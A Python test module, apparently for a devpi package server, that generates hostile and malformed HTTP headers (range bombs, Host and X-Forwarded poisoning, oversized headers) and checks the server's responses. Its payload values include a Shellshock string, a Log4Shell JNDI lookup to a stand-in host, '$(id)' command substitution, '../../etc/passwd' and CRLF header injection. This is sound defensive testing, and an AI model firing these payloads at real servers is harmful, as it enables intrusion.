"""Attacks by headers: of ranges, conditions, negotiation and hosts, and any others."""

from collections.abc import Iterator, Sequence
from dataclasses import replace

from tests.hostile_requests.attack import (
    MARKUP,
    POISON,
    Attack,
    Change,
    by_a_stranger,
    harmless,
    headers,
    passed_over,
    plus,
    refused,
    shown,
)
from tests.hostile_requests.doors import DOORS, FILES, HOST, PAGES, READS, Request

_DIGITS = b"9" * 4000  # Python turns no more than 4,300 digits into a number

_WHOLE: Sequence[bytes] = [
    b"bytes=" + b"0-0," * 4000, b"bytes=" + b",".join(b"%d-" % number for number in range(2000)),
    b"bytes=0-0,0-0", b"bytes=0-9,5-14,1-3", b"bytes=9-0", b"bytes=--1", b"bytes=-1-", b"bytes=a-b",
    b"bytes=", b"bytes", b"bytes=-", b"bytes=0x0-0x9", b"bytes=1e1-", b"bytes=\xd9\xa1-",
    b"bytes=0 - 9", b"lines=0-1", b"bytes=0-9;q=1", b"=0-9", b"bytes==0-9", b"none", b"\xff",
    b"bytes=" + b"," * 20_000, b"bytes=+0-+9", b"bytes=0-9\xb2", b"bytes:0-9",
    b"bytes=" + b"-" * 20_000, b"octets=0-0",
]  # fmt: skip
"""Malformed, of other units, or several at once: the whole file, as if there were no Range."""

_PARTS: Sequence[bytes] = [
    b"bytes=0-" + _DIGITS, b"bytes=-" + _DIGITS, b"bytes=" + b"0" * 4000 + b"-0", b"bytes=0-0",
    b"BYTES=0-0", b"bytes= 0-0 ", b"bytes=-1", b"bytes=0-9,",
]  # fmt: skip
_BEHIND: Sequence[bytes] = [
    b"bytes=" + _DIGITS + b"-", b"bytes=" + _DIGITS + b"-" + _DIGITS, b"bytes=-0",
    b"bytes=9999999999-", b"bytes=18446744073709551616-",
]  # fmt: skip

_TAGS: Sequence[bytes] = [
    b'"', b"W/", b"W/W/", b'"a' * 9000, b'"\xff"', b"\\", b'"*"', b"*" * 20_000, b"," * 20_000,
    b", ".join(b'"%d"' % number for number in range(2500)), b"' OR 1=1", b'W/"' * 9000, b'"a" "b"',
]  # fmt: skip
_DATES: Sequence[bytes] = [
    b"yesterday", b"Thu, 99 Foo 99999 99:99:99 GMT", b"0", b"-1", b"9" * 5000, b"\xff",
    b"1970-01-01", b"Sun, 06 Nov 1994 08:49:37 GMT" * 500, b"Thu, 01 Jan 0000 00:00:00 GMT",
]  # fmt: skip
_CONDITIONS: Sequence[tuple[bytes, bytes]] = [
    *((b"If-None-Match", tag) for tag in _TAGS),
    *((b"If-Match", tag) for tag in _TAGS),
    *((b"If-Modified-Since", date) for date in _DATES),
    *((b"If-Unmodified-Since", date) for date in _DATES),
]

_ACCEPTS: Sequence[bytes] = [
    b",".join(b"a/b%d;q=0.%d" % (number, number % 10) for number in range(2000)), b"," * 20_000,
    b";" * 20_000, b"*/*;q=nan", b"*/*;q=inf", b"*/*;q=-1", b"*/*;q=1e9", b"*/*;q=0." + b"9" * 9000,
    b"*/*;q=0", b"*/*;q=\xff", b"*/*;q=" + b"1" * 9000, b'"' * 20_000,
    b'text/html;x="' + b"\\" * 20_000, b"/", b"*", b"text", b"text/", b"text/html;q",
    b"text/html;q=;q=", b"\xff\xfe", b"application/vnd.pypi.simple.v9+json", b"=" * 9000,
    b"text/html" * 2000, b"../../etc/passwd", MARKUP.encode(), b"*/*," * 7000, b"image/png",
    b" " * 9000 + b"x",
]  # fmt: skip

_ENCODINGS: Sequence[bytes] = [
    b"br", b"gzip;q=nan", b"gzip;q=-1", b"identity;q=0, *;q=0", b"," * 20_000, b"*;q=0", b"\xff",
    b";" * 9000, b",".join(b"gzip;q=0.%d" % (number % 10) for number in range(2500)), b"x" * 20_000,
    b"gzip, gzip, gzip",
]  # fmt: skip

_FORWARDED: Sequence[tuple[bytes, bytes]] = [
    (b"X-Forwarded-Host", POISON), (b"X-Forwarded-Server", POISON),
    (b"X-Forwarded-Proto", b"javascript"), (b"X-Forwarded-Proto", b"https"),
    (b"X-Forwarded-Port", b"1"), (b"X-Forwarded-Prefix", b"/" + POISON),
    (b"X-Outside-Url", b"http://" + POISON + b"/"), (b"Forwarded", b"for=1.2.3.4;host=" + POISON),
    (b"Forwarded", b"\xff;;=,"), (b"X-Original-Url", b"/" + POISON),
    (b"X-Rewrite-Url", b"/" + POISON), (b"X-Script-Name", b"/" + POISON),
    (b"X-Forwarded-For", b"127.0.0.1"), (b"X-Forwarded-For", b"," * 9000),
    (b"X-Forwarded-For", POISON), (b"X-Real-Ip", POISON), (b"X-Host", POISON),
    (b"Origin", b"http://" + POISON), (b"Referer", b"http://" + POISON),
    (b"X-Forwarded-Path", b"/" + POISON), (b"Via", b"1.1 " + POISON),
]  # fmt: skip

_HOSTS: Sequence[bytes] = [
    b"a b", b"[::1", b"::1]", b"[::1]:x", b"user@" + POISON, b"user:pass@" + POISON, POISON + b"/x",
    POISON + b"?x", POISON + b"#x", b"x" * 10_000, b"", b":", b":80", b"127.0.0.1:99999999",
    b"127.0.0.1:-1", b"127.0.0.1:x", b"\xff", b"b\xc3\xbccher.example", MARKUP.encode(),
    b'"' + POISON + b'"', POISON + b"\\", POISON + b",x", POISON + b";", b"http://" + POISON,
    b"%00", b"%2f", POISON + b"%00", b"'", b"$(id)", b"\x80\x80",
    b"[:::]", b"[1.2.3.4]", b"[::1]:65536", POISON + b":65536",
]  # fmt: skip
"""None of them is a host with a port; what needs one takes the server's own address."""

_NO_HOSTS: Sequence[bytes] = [
    *_HOSTS, b" ", b",", b",,", POISON + b":", POISON + b":0", POISON + b":99999",
    POISON + b":-1", POISON + b":80:80", POISON + b":\xd9\xa1", POISON + b":0x50", POISON + b",",
    POISON + b", [::1", POISON + b", a b", b"[" + POISON + b"]", b"[::1]" + POISON, b"::1", b"[]",
    b"[1:2:3:4:5:6:7:8:9]", b"[.]", b"[::1]:0", b"[::1]:",
    b"[fe80::1%25eth0]", b"[fe80::1%eth0]", b"[v1.x]", POISON + b"\tx", POISON + b"\x01",
    POISON + b"\x7f", POISON + b"\xc2\xa0", b"a" * 262, b"127.0.0.1," * 2000 + b"<", b"," * 20_000,
]  # fmt: skip
"""As little as those: what a proxy that is trusted may pass on all the same."""

_NO_SCHEMES: Sequence[bytes] = [
    b"", b",", b"javascript", b"https://" + POISON, b"https:", b"http\x01", b"ftp", b"\xff", b"wss",
    b"https, javascript", b"x" * 20_000, b"https\tx", MARKUP.encode(), b"h\xd1\x82tps",
]  # fmt: skip

_NO_URLS: Sequence[bytes] = [
    b"", b"/", b"//" + POISON, POISON, b"javascript:" + POISON, b"file:///" + POISON, b"http:",
    b"http:/" + POISON, b"http://", b"http:///" + POISON, b"http:////", b"https:///", b"http://:80",
    b"http://?" + POISON, b"http://#", b"http://" + POISON + b"?x", b"http://" + POISON + b"#x",
    b"http://" + POISON + b" x", b"http://user@" + POISON, b"http://u:p@" + POISON + b"/",
    b"http://" + POISON + b":99999", b"http://" + POISON + b":0/", b"http://" + POISON + b":x/",
    b"http://[" + POISON + b"]/", b"http://[::1", b"http://[", b"http://]", b"http://[:::]/",
    b"http://" + POISON + b"\\x", b"http://" + POISON + b"/\x01", b"http://" + POISON + b"/\x7f",
    b"http://" + POISON + b"/\xff", b"http://b\xc3\xbccher." + POISON, b"http://a b/", b"\xff",
    b"http://" + POISON + b"/'", b'http://x"' + MARKUP.encode(), b"HTTP:" + POISON, b"http://%00/",
    b"http://" + POISON + b", http://" + POISON, b"http://" + b"a" * 20_000,
]  # fmt: skip

_NO_ADDRESSES: Sequence[bytes] = [
    b"", b",", b", ,", b"unknown", b"_hidden", b"192.0.2.9:80", b"[2001:db8::9]:80", b"[::",
    b"::::", b"fe80::1%eth0", b"1.2.3.4.5", b"0x7f000001", b"127.1", b"::ffff:127.0.0.1",
    b"127.0.0.1",
    b"192.0.2.9, unknown", POISON, MARKUP.encode(), b"\xff\xfe", b"\x1b[2J", b"a\tb", b"\x7f",
    b"x" * 20_000, b"," * 20_000, b"127.0.0.2," * 2000, b"127.0.0.2", b'"192.0.2.9"', b"%00",
]  # fmt: skip

_NO_FORWARDED: Sequence[bytes] = [
    b"", b";", b",", b"=", b"for", b"for=", b"for=;host=" + POISON, b'for="[::1', b"host=\xff",
    b"for=_x;host=" + POISON + b";proto=javascript", b'host="' + POISON + b'\\', b"by=\x1b[2J",
    b"for=192.0.2.9;" * 1000, b"host=" + b"x" * 20_000, MARKUP.encode(), b"for=1, host=" + POISON,
]  # fmt: skip

_HARMLESS: Sequence[tuple[bytes, bytes]] = [
    (b"Cookie", b"=;" * 9000), (b"Cookie", b"session=\xff"), (b"User-Agent", b"\xff\xfe"),
    (b"User-Agent", b"x" * 20_000), (b"User-Agent", MARKUP.encode()),
    (b"User-Agent", b"() { :; }; id"), (b"User-Agent", b"${jndi:ldap://poisoned.example/a}"),
    (b"X-Http-Method-Override", b"DELETE"), (b"X-Http-Method", b"PUT"),
    (b"X-Method-Override", b"PATCH"), (b"Expect", b"200-ok"), (b"Expect", b"100-continue"),
    (b"Expect", b"\xff"), (b"Upgrade", b"websocket"), (b"Upgrade", b"h2c"),
    (b"Http2-Settings", b"AAMAAABkAAQAAP__"), (b"Connection", b"Upgrade, HTTP2-Settings"),
    (b"Connection", b"x" * 9000), (b"Connection", b"keep-alive, x"), (b"Te", b"trailers, x;q=nan"),
    (b"Trailer", b"Content-Length"), (b"Max-Forwards", b"9" * 5000), (b"Content-Language", b"\xff"),
    (b"Pragma", b"x" * 9000), (b"Cache-Control", b"max-age=" + b"9" * 5000), (b"From", b"\xff"),
    (b"Proxy", b"http://poisoned.example"), (b"Proxy-Authorization", b"Basic \xff"),
    (b"Sec-Fetch-Mode", b"\xff"), (b"Accept-Language", b"," * 9000),
    (b"Accept-Charset", b"utf-16;q=nan"), (b"Date", b"x"), (b"Content-Md5", b"x"),
    (b"X-Original-Uri", b"/" + POISON), (b"Range-Unit", b"x"), (b"X-Devpi-Serial", b"9" * 5000),
    (b"X-Devpi-Auth", b"\xff"), (b"X-Reason", b"x"), (b"Early-Data", b"1"),
]  # fmt: skip


def ranges() -> Iterator[Attack]:
    """Byte ranges: bombs, junk, and numbers without end."""
    for value in _WHOLE:
        yield harmless(f"Range: {shown(value)}", headers((b"Range", value)), doors=READS)
    for value in _PARTS:
        change = headers((b"Range", value))
        yield refused(f"Range: {shown(value)}", change, 206, doors=FILES)
    for value in _BEHIND:
        yield refused(f"Range: {shown(value)}", headers((b"Range", value)), 416, doors=FILES)
    for value in (*_TAGS, *_DATES):
        change = headers((b"Range", b"bytes=0-0"), (b"If-Range", value))
        yield harmless(f"If-Range: {shown(value)}", change, doors=READS)


def conditions() -> Iterator[Attack]:
    """Conditions that nothing fulfils, or that are none."""
    many = b", ".join(b'"%d"' % number for number in range(12_000))
    change = headers((b"If-None-Match", many))
    yield refused("100 KB of tags", change, 431, doors=READS, is_long=True)
    for name, value in _CONDITIONS:
        title = f"{name.decode()}: {shown(value)}"
        yield harmless(title, headers((name, value)), doors=READS)


def negotiation() -> Iterator[Attack]:
    """What a client takes, said oddly. Pages that have no such form say so."""
    for value in _ACCEPTS:
        yield passed_over(
            f"Accept: {shown(value)}", headers((b"Accept", value)), 302, 404, 406, doors=READS
        )
    for value in _ENCODINGS:
        change = headers((b"Accept-Encoding", value))
        yield passed_over(f"Accept-Encoding: {shown(value)}", change, doors=READS)
    many = tuple((b"Accept", b"a/b;q=0.1") for _ in range(90))
    yield passed_over("90 Accept headers", plus(*many), 302, 404, 406, doors=READS)


def hosts() -> Iterator[Attack]:
    """Who the server is, said by those who should not know better."""
    return map(by_a_stranger, _hosts())


def _hosts() -> Iterator[Attack]:
    for name, value in _FORWARDED:
        # What a page of another site sends may change nothing, whoever looks at it.
        refusals = [403] if name == b"Origin" else []
        yield harmless(f"{name.decode()}: {shown(value)}", headers((name, value)), *refusals)
    for host in _HOSTS:
        yield passed_over(f"Host: {shown(host)}", headers((b"Host", host)), 400)
    yield refused("two Hosts", plus((b"Host", HOST), (b"Host", POISON)))
    yield refused("two Hosts, and equal ones", plus((b"Host", HOST), (b"Host", HOST)))
    yield refused("no Host", _without_host)


def forwarded() -> Iterator[Attack]:
    """What a proxy passes on that is trusted, and that has not understood it either."""
    for host in _NO_HOSTS:
        title, change = f"X-Forwarded-Host: {shown(host)}", headers((b"X-Forwarded-Host", host))
        yield harmless(title, change, 400, doors=PAGES)
        yield passed_over(f"{title} to all", change, 400)
    for name, values in (
        (b"X-Forwarded-Proto", _NO_SCHEMES), (b"X-Outside-Url", _NO_URLS),
        (b"X-Forwarded-For", _NO_ADDRESSES), (b"Forwarded", _NO_FORWARDED),
        (b"X-Forwarded-Port", (b"", b"0", b"99999", b"x", b"\xff", b"443, " + POISON)),
        (b"X-Forwarded-Prefix", (b"", b"/" + POISON, b"//" + POISON, b"/..", b"\xff", b"/\x01")),
    ):  # fmt: skip
        for value in values:
            title = f"{name.decode()}: {shown(value)}"
            yield harmless(title, headers((name, value)), 400)
    for name, theirs, own in (
        (b"X-Forwarded-Host", POISON, HOST), (b"X-Forwarded-Proto", b"https", b"http"),
        (b"X-Outside-Url", b"http://" + POISON, b"http://" + HOST),
    ):  # fmt: skip
        # A proxy that adds a line leaves that of whoever is behind it above its own.
        change = plus((name, theirs), (name, own))
        yield harmless(f"{name.decode()} of a stranger and of the proxy", change)


def odd_headers() -> Iterator[Attack]:
    """Headers that mean nothing here, or not what they say."""
    for name, value in _HARMLESS:
        yield harmless(f"{name.decode()}: {shown(value)}", headers((name, value)), 417)
    yield refused("5,000 headers", plus(*[(b"A", b"b")] * 5000), 431, is_long=True)
    yield refused("20,000 headers", plus(*[(b"A", b"b")] * 20_000), 431, is_long=True)
    yield refused("a header of 300 KB", headers((b"A", b"b" * 300_000)), 431, is_long=True)
    yield refused("a header name of 300 KB", headers((b"A" * 300_000, b"b")), 431, is_long=True)
    for name in (b"", b"A B", b"A\0", b"A\xff", b"A\x1b[2J", b"A(", b"A\t", b"\x7f"):
        yield refused(f"header name {shown(name)}", headers((name, b"x")))
    for name in (b" ", b" A", b"\tA"):  # a fold of the line before
        change = headers((b"X-Odd", b"a"), (name, b"x"))
        yield harmless(f"header name {shown(name)}", change, 400)
    for value in (b"a\0b", b"a\rb", b"a\nb", b"\r"):
        yield refused(f"header value {shown(value)}", headers((b"X-Odd", value)), 400)
    for value in (b"a\x1b[2Jb", b"a\x01", b"\x7f", b"\x08" * 100):  # RFC 9110, 5.5: may be kept
        yield harmless(f"header value {shown(value)}", headers((b"X-Odd", value)), 400)
    yield refused("a header without a colon", _line(b"Nonsense"))
    yield harmless("a folded header", _line(b"X-Odd: a\r\n b"), 400)
    yield refused("a fold ahead of all headers", _first_line(b" folded: x"))


def asked_by_front_servers() -> Iterator[Attack]:
    """What a front server asks about, if that is no URL of ours."""
    doors = tuple(door for door in DOORS if door.kind == "AuthCheck")
    for value in (
        b"", b"http://[::1", b"//", b"/../../x", b"/%00", b"/%ff", b"\xff", b"/" * 20_000,
        b"/" + b"a" * 20_000, b"*", b"?", b"/root/../x", b"http://poisoned.example/root/local/",
        b"/root/local/%0d%0aX-Injected:%201", b"/%1b[2J", b"javascript:x", b"/root/local/+f/x/y/..",
    ):  # fmt: skip
        change = headers((b"X-Original-Uri", value))
        yield harmless(f"X-Original-Uri: {shown(value)}", change, 403, doors=doors)


def _without_host(request: Request) -> Request:
    head, _, rest = request.content.partition(b"Host: " + HOST + b"\r\n")
    return replace(request, raw=head + rest)


def _line(line: bytes) -> Change:
    """With a line among the headers that is sent as it is."""

    def change(request: Request) -> Request:
        first, _, rest = request.content.partition(b"\r\n")
        host, _, more = rest.partition(b"\r\n")
        return replace(request, raw=b"\r\n".join([first, host, line, more]))

    return change


def _first_line(line: bytes) -> Change:
    def change(request: Request) -> Request:
        first, _, rest = request.content.partition(b"\r\n")
        return replace(request, raw=b"\r\n".join([first, line, rest]))

    return change
